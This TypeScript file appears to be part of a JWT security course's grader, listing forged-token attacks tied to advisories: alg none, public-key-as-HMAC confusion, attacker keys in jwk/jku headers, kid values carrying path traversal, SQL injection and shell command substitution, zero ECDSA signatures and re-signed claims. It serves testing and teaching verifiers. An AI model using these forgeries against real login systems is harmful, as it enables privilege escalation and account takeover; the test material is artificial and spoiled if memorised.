/** Tokens that real libraries and products accepted, by advisory: how each is forged for a door. */
import type { KeyObject } from 'node:crypto'
import { forgeWithPublicKey } from '../../solutions/attacks/confusion.ts'
import { forgeWithKid, forgeWithOwnKey } from '../../solutions/attacks/header-keys.ts'
import { forgeUnsigned } from '../../solutions/attacks/none.ts'
import { confusedVerify } from '../../solutions/attacks/targets/confusion.ts'
import { embeddedVerify, fileVerify, lookupVerify } from '../../solutions/attacks/targets/header-keys.ts'
import { filteringVerify, trustingVerify } from '../../solutions/attacks/targets/none.ts'
import { toBase64url } from '../../src/grader/kit/bytes.ts'
import {
  attackerKeys,
  CLIENT,
  type Door,
  goodClaims,
  honestToken,
  type Json,
  macToken,
  SECRET,
  segment,
  signedToken,
} from './doors.ts'

export type TokenAttack = {
  name: string
  /** Where it was let in: advisories, a lab or the section that warns of it. */
  advisory: string
  forge: (door: Door) => string[]
  /** Forges for the verifier with this hole, where the course ships one. */
  victim?: (door: Door) => unknown
}

const ADMIN = { role: 'admin' }
const attackersAlgs = ['RS256', 'ES256', 'Ed25519'] as const
/** Signed by the attacker with a key for the algorithm that the door expects; behind an HMAC, with RS256. */
const ofAttacker = ({ alg, kid }: Door, header: Json = {}, claims: unknown = goodClaims(ADMIN)): string => {
  const own = alg === 'HS256' ? 'RS256' : alg
  return signedToken({ alg: own, kid, ...header }, claims, attackerKeys[own].privateKey)
}
/** An honest token with other text in some of its segments. */
const withSegments = (door: Door, change: (parts: [string, string, string]) => string): string =>
  change(honestToken(door, goodClaims()).split('.') as [string, string, string])
/** The same bytes in another spelling: a bit that the last character of the signature does not need is set. */
function withSpareBit(token: string): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
  return token.slice(0, -1) + alphabet[alphabet.indexOf(token.at(-1) as string) + 1]
}
const overheard = (door: Door): string => honestToken(door, goodClaims())

const spki = (key: KeyObject): string => key.export({ type: 'spki', format: 'pem' }) as string
const pkcs1 = (key: KeyObject): string[] =>
  key.asymmetricKeyType === 'rsa' ? [key.export({ type: 'pkcs1', format: 'pem' }) as string] : []
/** Forged by the solution of lesson 12; named as the honest token is, or the lookup would end it. */
const confused = (door: Door, secrets: readonly (string | Uint8Array)[]): string[] =>
  secrets.flatMap(secret => [
    ...(typeof secret === 'string' ? [forgeWithPublicKey(overheard(door), secret, ADMIN)] : []),
    macToken({ alg: 'HS256', kid: door.kid }, goodClaims(ADMIN), secret),
    macToken({ alg: door.alg, kid: door.kid }, goodClaims(ADMIN), secret),
  ])
/** What the verifier of lesson 12 says when its key is spelled so. */
const confuse = (door: Door, pem: string): unknown =>
  confusedVerify(forgeWithPublicKey(overheard(door), pem, ADMIN), pem)

/** The order of P-256 (SEC 2 §2.4.2). */
const ORDER = Buffer.from('ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551', 'hex')
const ZERO = Buffer.alloc(32)
const ONE = Buffer.concat([Buffer.alloc(31), Buffer.of(1)])

const PATHS = ['../../../dev/null', '/dev/null', '../../../../../../dev/null', 'file:///dev/null']
const OWN_NAMES = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf']
const URLS = [
  'https://evil.example/jwks.json',
  'https://login.example@evil.example/',
  'http://127.0.0.1/jwks',
]

export const tokenAttacks: readonly TokenAttack[] = [
  {
    name: 'alg none, no signature',
    advisory: 'CVE-2020-15957, CVE-2018-1000531, CVE-2022-23540',
    forge: door => [forgeUnsigned(overheard(door), ADMIN), forgeUnsigned(overheard(door), {})],
    victim: door => trustingVerify(forgeUnsigned(overheard(door), ADMIN), SECRET),
  },
  {
    name: 'alg none in other letters',
    advisory: 'the filter of lesson 10; RFC 8725 §3.1',
    forge: door =>
      ['None', 'NONE', 'nOnE', 'noNe'].map(
        alg => `${segment({ alg, kid: door.kid })}.${segment(goodClaims(ADMIN))}.`,
      ),
    victim: () => filteringVerify(`${segment({ alg: 'nOnE' })}.${segment(goodClaims(ADMIN))}.`, SECRET),
  },
  {
    name: 'alg none with something as its signature, or without the last dot',
    advisory: 'CVE-2018-1000531; RFC 7519 §6.1',
    forge: door =>
      [' none', 'none ', 'none\0', null, 0, [], ['none'], {}, '', undefined, 'none'].flatMap(alg => {
        const input = `${segment({ alg, kid: door.kid })}.${segment(goodClaims(ADMIN))}`
        return [`${input}.`, `${input}.none`, `${input}.AAAA`, input]
      }),
  },
  {
    name: 'the right alg and no signature',
    advisory: 'CVE-2020-28042',
    forge: door => [
      withSegments(door, ([header, payload]) => `${header}.${payload}.`),
      withSegments(door, ([header]) => `${header}.${segment(goodClaims(ADMIN))}.`),
      withSegments(door, ([header, payload]) => `${header}.${payload}`),
    ],
  },
  {
    name: 'a public key in PEM as the HMAC secret',
    advisory: 'CVE-2015-9235, CVE-2016-10555',
    forge: door => confused(door, [spki(door.publicKey), spki(door.publicKey).trimEnd()]),
    victim: door => confuse(door, spki(door.publicKey)),
  },
  {
    name: 'a public key in PKCS #1, or with CR LF, as the HMAC secret',
    advisory: 'CVE-2023-48223',
    forge: door => confused(door, [...pkcs1(door.publicKey), spki(door.publicKey).replaceAll('\n', '\r\n')]),
    victim: door => confuse(door, pkcs1(door.publicKey)[0] ?? spki(door.publicKey).replaceAll('\n', '\r\n')),
  },
  {
    name: 'a public key with white space before it as the HMAC secret',
    advisory: 'CVE-2026-34950',
    forge: door =>
      confused(
        door,
        ['\n', ' ', '\t', '\u00a0'].map(space => space + spki(door.publicKey)),
      ),
    victim: door => confuse(door, `\n${spki(door.publicKey)}`),
  },
  {
    name: 'a public key with a comment, or a byte order mark, before it as the HMAC secret',
    advisory: 'CVE-2026-107722 (GHSA-ww5h-9m49-7xx4)',
    forge: door =>
      confused(
        door,
        ['# key\n', '// key\n', '\ufeff', '.'].map(text => text + spki(door.publicKey)),
      ),
    victim: door => confuse(door, `# key\n${spki(door.publicKey)}`),
  },
  {
    name: 'a public key as a JWK, as DER or as its number as the HMAC secret',
    advisory: 'GHSA-g3jj-5cmm-3hxx; RFC 8725 §2.1',
    forge: door => {
      const jwk = door.publicKey.export({ format: 'jwk' })
      const der = door.publicKey.export({ type: 'spki', format: 'der' })
      const number = String(jwk.n ?? jwk.x)
      return confused(door, [
        JSON.stringify(jwk),
        JSON.stringify({ ...jwk, kid: door.kid }),
        JSON.stringify({ keys: [jwk] }),
        der,
        der.toString('base64'),
        number,
        Buffer.from(number, 'base64url'),
      ])
    },
  },
  {
    name: 'HS256 beside the name of a key for another algorithm, and the other way round',
    advisory: 'CVE-2022-23541; RFC 8725 §3.1',
    forge: door =>
      ['hmac-1', 'rsa-1', 'ec-1', 'ed-1'].flatMap(kid => [
        ofAttacker(door, { kid }),
        macToken({ alg: 'HS256', kid }, goodClaims(ADMIN), spki(door.publicKey)),
        ...attackersAlgs.map(alg =>
          signedToken({ alg, kid }, goodClaims(ADMIN), attackerKeys[alg].privateKey),
        ),
      ]),
  },
  {
    name: 'a key of the attacker in the header (jwk)',
    advisory: 'CVE-2018-0114, CVE-2026-34240',
    forge: door => [
      forgeWithOwnKey(overheard(door), ADMIN),
      ...attackersAlgs.flatMap(alg => {
        const { privateKey, publicKey: jwk } = attackerKeys[alg]
        return [
          { alg, jwk },
          { alg, jwk, kid: door.kid },
          { alg, jwk: { ...jwk, kid: door.kid } },
        ].map(header => signedToken(header, goodClaims(ADMIN), privateKey))
      }),
    ],
    victim: door => embeddedVerify(forgeWithOwnKey(overheard(door), ADMIN)),
  },
  {
    name: 'an oct key of the attacker in the header, and HS256',
    advisory: 'RFC 8725 §3.10',
    forge: door => {
      const jwk = { kty: 'oct', k: toBase64url(ZERO) }
      return [
        macToken({ alg: 'HS256', jwk }, goodClaims(ADMIN), ZERO),
        macToken({ alg: 'HS256', jwk, kid: door.kid }, goodClaims(ADMIN), ZERO),
      ]
    },
  },
  {
    name: 'the address of keys, or certificates, of the attacker in the header (jku, x5u, x5c)',
    advisory: 'RFC 8725 §3.10; RFC 7515 §4.1.2, §4.1.5, §4.1.6',
    forge: door =>
      URLS.flatMap(url => [
        { jku: url },
        { x5u: url },
        { jku: url, kid: undefined },
        { x5c: [url], 'x5t#S256': 'AA' },
      ]).map(header => ofAttacker(door, header)),
  },
  {
    name: 'a kid that finds nothing, and the empty secret',
    advisory: 'CVE-2026-44351, CVE-2026-45363, CVE-2025-65945 (GHSA-869p-cjfg-cm3x)',
    forge: door =>
      ['nobody', ''].flatMap(kid => [
        forgeWithKid(overheard(door), kid, ADMIN),
        macToken({ alg: 'HS256', kid }, goodClaims(ADMIN), new Uint8Array(64)),
      ]),
    victim: door => lookupVerify(forgeWithKid(overheard(door), 'nobody', ADMIN), {}),
  },
  {
    name: 'a kid that climbs to an empty file',
    advisory: 'a lab of the Web Security Academy; RFC 8725 §3.10',
    forge: door => [
      forgeWithKid(overheard(door), '../../../dev/null', ADMIN),
      forgeWithKid(overheard(door), '../../../../../dev/null', ADMIN),
    ],
    victim: door =>
      fileVerify(forgeWithKid(overheard(door), '../../../dev/null', ADMIN), { '/dev/null': '' }),
  },
  {
    name: 'a kid that is another path, a query or a command',
    advisory: "WebGoat's JWT lessons; RFC 8725 §3.10",
    forge: door =>
      [
        ...PATHS,
        "' UNION SELECT 'a2V5' --",
        "x' OR '1'='1",
        '| echo key',
        '$(echo key)',
        `${door.kid}\0`,
      ].flatMap(kid =>
        ['', 'key', 'a2V5'].map(secret => macToken({ alg: 'HS256', kid }, goodClaims(ADMIN), secret)),
      ),
  },
  {
    name: 'the empty secret under the right kid',
    advisory: 'CVE-2022-23540, GHSA-8wpc-h4q6-8fxv',
    forge: door => [
      forgeWithKid(overheard(door), door.kid, ADMIN),
      ...['undefined', 'null', '0', ' '].map(secret =>
        macToken({ alg: 'HS256', kid: door.kid }, goodClaims(ADMIN), secret),
      ),
    ],
  },
  {
    name: 'names that every object has, as kid, alg or a member of the token',
    advisory: 'CVE-2024-34273',
    forge: door =>
      OWN_NAMES.flatMap(name => [
        macToken({ alg: 'HS256', kid: name }, goodClaims(ADMIN), ''),
        ofAttacker(door, { kid: name }),
        ofAttacker(door, { alg: name }),
        ofAttacker(door, {}, JSON.stringify(goodClaims()).replace('{', `{"${name}":{"role":"admin"},`)),
        signedToken(
          `{"alg":"${door.alg}","kid":"${door.kid}","${name}":{"alg":"none"}}`,
          goodClaims(ADMIN),
          attackerKeys.ES256.privateKey,
        ),
      ]),
  },
  {
    name: 'a kid that is not a string',
    advisory: 'RFC 7515 §4.1.4',
    forge: door =>
      [0, 1, true, null, [door.kid], { toString: door.kid }, {}, []].flatMap(kid => [
        ofAttacker(door, { kid }),
        macToken({ alg: 'HS256', kid }, goodClaims(ADMIN), ''),
      ]),
  },
  {
    name: 'an extension that the verifier must know (crit, b64), well signed',
    advisory: 'CVE-2026-35042; RFC 7515 §4.1.11',
    forge: door =>
      [
        { crit: ['exp'], exp: 0 },
        { crit: ['x'], x: 1 },
        { crit: [] },
        { crit: ['x'] },
        { crit: 'x' },
        { crit: ['alg'] },
        { crit: null },
        { crit: ['b64'], b64: false },
        { crit: ['b64'], b64: true },
        { b64: false },
      ].map(header => honestToken(door, goodClaims(), header)),
  },
  {
    name: 'r and s of 0, and of the order of the curve',
    advisory: 'CVE-2022-21449',
    forge: door =>
      [
        [ZERO, ZERO],
        [ZERO, ONE],
        [ONE, ZERO],
        [ORDER, ORDER],
        [ORDER, ZERO],
        [ONE, ORDER],
      ].flatMap(halves =>
        [door.alg, 'ES256'].map(
          alg =>
            `${segment({ alg, kid: door.kid })}.${segment(goodClaims(ADMIN))}.${toBase64url(Buffer.concat(halves))}`,
        ),
      ),
  },
  {
    name: 'a signature in DER, cut, prolonged or all zeros',
    advisory: 'RFC 7518 §3.4; Wycheproof, json_web_signature',
    forge: door => {
      const [header, payload, signature] = overheard(door).split('.') as [string, string, string]
      const bytes = Buffer.from(signature, 'base64url')
      const others = [bytes.subarray(1), bytes.subarray(0, -1), Buffer.concat([bytes, Buffer.of(0)])]
      const all = [...others, Buffer.concat([Buffer.of(0), bytes]), Buffer.alloc(bytes.length)]
      return all.map(other => `${header}.${payload}.${toBase64url(other)}`)
    },
  },
  {
    name: 'the signature of a token that was accepted before, under other claims',
    advisory: 'CVE-2026-35039 (GHSA-rp9m-7r4c-75qg); RFC 7519 §7.2',
    forge: door => {
      const token = overheard(door)
      door.take(token)
      const [header, payload, signature] = token.split('.')
      return [
        `${header}.${segment(goodClaims(ADMIN))}.${signature}`,
        `${segment({ alg: door.alg, kid: door.kid, role: 'admin' })}.${payload}.${signature}`,
      ]
    },
  },
  {
    name: 'another spelling of a good token: padding, other alphabet, spare bits, something around it',
    advisory: 'RFC 7515 §2; draft-ietf-oauth-rfc8725bis §3.14',
    forge: door => {
      const token = overheard(door)
      const [header, payload, signature] = token.split('.') as [string, string, string]
      return [
        withSpareBit(token),
        `${token}=`,
        `${token}==`,
        `${token}.`,
        `${token}.x`,
        `.${token}`,
        ` ${token}`,
        `${token}\n`,
        `Bearer ${token}`,
        `"${token}"`,
        `${header}.${payload}.${signature}.${signature}`,
        `${header}=.${payload}.${signature}`,
        `${header}.${payload.slice(0, 4)} ${payload.slice(4)}.${signature}`,
        JSON.stringify({ protected: header, payload, signature }),
        JSON.stringify({ payload, signatures: [{ protected: header, signature }] }),
      ]
    },
  },
  {
    name: 'a key of another issuer, by the same name',
    advisory: 'Storm-0558 (Cyber Safety Review Board, 2024); RFC 8725 §3.8',
    forge: door => [
      ofAttacker(door),
      ofAttacker(door, { kid: undefined }),
      ofAttacker(door, { iss: CLIENT }),
    ],
  },
]
